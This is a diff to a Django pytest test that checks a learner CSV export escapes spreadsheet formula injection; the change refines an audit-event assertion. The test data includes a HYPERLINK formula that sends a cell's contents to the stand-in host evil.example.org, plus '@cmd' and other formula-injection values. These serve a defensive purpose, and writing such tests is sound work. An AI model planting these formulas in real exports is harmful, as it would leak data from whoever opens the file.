@@ -314,7 +314,9 @@ def test_case_18_learner_export_neutralises_formulas(client, admin):
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
     assert '\'=HYPERLINK("http://evil.example.org/?d="&A1,"open")' in cells
     assert "'+SUM(1+1)" in cells and "'@cmd" in cells and "'-2+3" in cells
-    assert AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED).count() == 2
+    exports = AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED)
+    enrolled = Enrollment.objects.filter(course=course).count()
+    assert [event.details["rows"] for event in exports] == [enrolled, enrolled]
 
 
 @pytest.mark.django_db
